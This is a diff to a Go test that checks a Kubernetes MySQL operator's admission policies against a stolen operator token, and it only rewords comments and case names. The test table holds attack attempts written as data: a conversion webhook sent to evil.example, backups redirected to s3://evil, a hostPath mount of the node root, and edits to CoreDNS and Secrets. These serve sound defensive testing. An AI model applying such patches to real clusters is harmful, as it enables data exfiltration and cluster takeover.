@@ -43,7 +43,7 @@ func newThief(t *testing.T, kinds ...schema.Kind) thief {
 	return f
 }
 
-// convertsElsewhere sends every MySQLCluster through somebody's webhook.
+// convertsElsewhere sends every MySQLCluster through the attacker's webhook.
 func (f thief) convertsElsewhere(ctx context.Context) error {
 	return f.redefines(ctx, `{"spec":{"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://evil.example/convert"}}}}}`)
 }
@@ -130,8 +130,8 @@ func (f thief) victims(t *testing.T) {
 // authorityOfDB is a Secret with the CAs of a cluster.
 const authorityOfDB = "ca.shop.db"
 
-// TestPolicyAgainstAStolenToken: what somebody would do who has the operator's token, with more rights than the operator ever gets. All of
-// it is refused by the policies, and by nothing else.
+// TestPolicyAgainstAStolenToken: an attacker has the operator's token, with more permissions than the operator ever gets. The policies
+// refuse all that the attacker tries, and nothing else refuses it.
 func TestPolicyAgainstAStolenToken(t *testing.T) {
 	t.Parallel()
 	f := newThief(t, depotKinds()...)
@@ -163,7 +163,7 @@ func (f thief) onOthers(t *testing.T) map[string]attack {
 		"a Job in kube-system":            {f.creates(kubeSystem, "jobs", job(restrictedPod)), "namespaces of Kubernetes"},
 		"a ConfigMap in kube-system":      {f.creates(kubeSystem, "configmaps", apply+"ConfigMap, metadata: {name: evil, "+ours+"}}"), "namespaces of Kubernetes"},
 		"the image of a privileged Pod":   {f.runs(here, "agent", "evil"), "the operator changes"},
-		"a label of somebody's Pod":       {f.patches(here, "pods", "agent", `{"metadata":{"labels":{"role":"primary"}}}`), "Pods of its own workloads"},
+		"a label of a user's Pod":         {f.patches(here, "pods", "agent", `{"metadata":{"labels":{"role":"primary"}}}`), "Pods of its own workloads"},
 		"the cluster's DNS":               {f.patches(here, "configmaps", "coredns", `{"data":{"Corefile":"evil"}}`), "only what it made"},
 		"the same with the mark":          {f.patches(here, "configmaps", "coredns", `{"metadata":{"labels":{"app.kubernetes.io/managed-by":"mysql-operator"}}}`), "only what it made"},
 		"a Service's selector":            {f.patches(here, "services", "shop", `{"spec":{"selector":{"app":"evil"}}}`), "the operator"},
@@ -172,14 +172,14 @@ func (f thief) onOthers(t *testing.T) map[string]attack {
 		"a Service for another name":      {f.creates(here, "services", apply+"Service, metadata: {name: evil, "+ours+"}, spec: {type: ExternalName, externalName: evil.example}}"), "only Services of type ClusterIP"},
 		"a cloud's role for an account":   {f.patches(here, "serviceaccounts", "cloud", `{"metadata":{"annotations":{"eks.amazonaws.com/role-arn":"admin"}}}`), "the operator"},
 		"an account with a cloud's role":  {f.creates(here, "serviceaccounts", apply+"ServiceAccount, metadata: {name: evil, "+ours+", annotations: {eks.amazonaws.com/role-arn: admin}}}"), "no annotations"},
-		"somebody's claim":                {f.patches(here, "persistentvolumeclaims", "data", `{"metadata":{"annotations":{"volume.kubernetes.io/selected-node":"mine"}}}`), "the operator"},
+		"a user's claim":                  {f.patches(here, "persistentvolumeclaims", "data", `{"metadata":{"annotations":{"volume.kubernetes.io/selected-node":"mine"}}}`), "the operator"},
 		"a cluster's passwords":           {f.deletes(here, "secrets", "db-accounts"), "deletes only Secrets with CAs"},
 		"a Secret at the operator's home": {f.creates(f.home, "secrets", apply+"Secret, metadata: {name: evil, "+ours+"}}"), "writes only Secrets with CAs of clusters"},
 		"one that is called almost so":    {f.creates(f.home, "secrets", apply+"Secret, metadata: {name: ca.evil, "+ours+"}}"), "writes only Secrets with CAs of clusters"},
 		"a token in the name of a CA":     {f.creates(f.home, "secrets", apply+"Secret, type: kubernetes.io/service-account-token, metadata: {name: ca.shop.evil, "+ours+", annotations: {kubernetes.io/service-account.name: default}}}"), "Secrets of type Opaque"},
 		"a change of a Secret there":      {f.patches(f.home, "secrets", "pull-credentials", `{"stringData":{"a":"c"}}`), "writes only Secrets with CAs of clusters"},
 		"the deletion of a Secret there":  {f.deletes(f.home, "secrets", "pull-credentials"), "deletes only Secrets with CAs"},
-		"somebody's Secret":               {f.patches(here, "secrets", "theirs", `{"stringData":{"a":"c"}}`), "only what it made"},
+		"a user's Secret":                 {f.patches(here, "secrets", "theirs", `{"stringData":{"a":"c"}}`), "only what it made"},
 		"another tenant's cluster":        {f.patches(here, "mysqlclusters", "db", `{"spec":{"image":"evil"}}`), "never writes spec"},
 		"its end by garbage collection":   {f.patches(here, "mysqlclusters", "db", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Secret","name":"none","uid":"none"}]}}`), "nor owners"},
 		"that of all clusters": {func(ctx context.Context, _ *testing.T) error {
@@ -188,8 +188,8 @@ func (f thief) onOthers(t *testing.T) map[string]attack {
 		"the deletion of a cluster":          {f.deletes(here, "mysqlclusters", "db"), "only MySQLBackupInstances of schedules"},
 		"a cluster of one's own":             {f.creates(here, "mysqlclusters", "{apiVersion: cr.mysqloperator.grtl.github.com/v1, kind: MySQLCluster, metadata: {name: evil}, spec: {secret: root}}"), "only MySQLBackupInstances of schedules"},
 		"where a schedule's backups go":      {f.patches(here, "mysqlbackupschedules", "nightly", `{"spec":{"destination":{"url":"s3://evil/b?region=r"}}}`), "never writes spec"},
-		"a backup that somebody made":        {f.deletes(here, "mysqlbackupinstances", "precious"), "only MySQLBackupInstances of schedules"},
-		"a Job of somebody's":                {f.deletes(here, "jobs", "theirs"), "only what it made"},
+		"a backup that a user made":          {f.deletes(here, "mysqlbackupinstances", "precious"), "only MySQLBackupInstances of schedules"},
+		"a user's Job":                       {f.deletes(here, "jobs", "theirs"), "only what it made"},
 		"a Pod's deletion":                   {f.deletes(here, "pods", "agent"), "neither creates nor deletes"},
 		"a Pod":                              {f.creates(here, "pods", apply+"Pod, metadata: {name: evil, "+ours+"}, spec: {"+restrictedPod+"}}"), "neither creates nor deletes"},
 		"the node's files":                   {unsafely(restrictedPod + ", volumes: [{name: v, hostPath: {path: /}}]"), "mount only Secrets"},
